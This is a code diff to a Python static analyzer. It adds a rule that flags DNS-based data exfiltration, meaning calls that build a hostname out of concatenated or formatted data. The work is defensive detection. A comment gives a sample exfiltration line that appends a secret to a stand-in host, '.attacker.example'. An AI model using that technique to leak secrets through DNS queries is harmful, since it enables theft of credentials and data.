@@ -385,6 +385,19 @@ class _Collector(cst.CSTVisitor):
                 # os.environ handed whole to a call: json.dumps(os.environ), dict(os.environ)...
                 self.out.add("env_dump", line, self.scope, "os.environ", col)
         label = sorted(qnames)[0] if qnames else (dotted or "<call>")
+        if (
+            "dns" in caps
+            and node.args
+            and (
+                isinstance(node.args[0].value, (cst.BinaryOperation, cst.FormattedString))
+                or (
+                    isinstance(node.args[0].value, cst.Call)
+                    and _simple(node.args[0].value.func) in ("format", "join")
+                )
+            )
+        ):
+            # gethostbyname(secret + ".attacker.example"): data leaves in the query name.
+            caps.add("dns_exfil")
         for cap in caps:
             self.out.add(cap, line, self.scope, label, col)
         for kind in sink_kinds(caps):
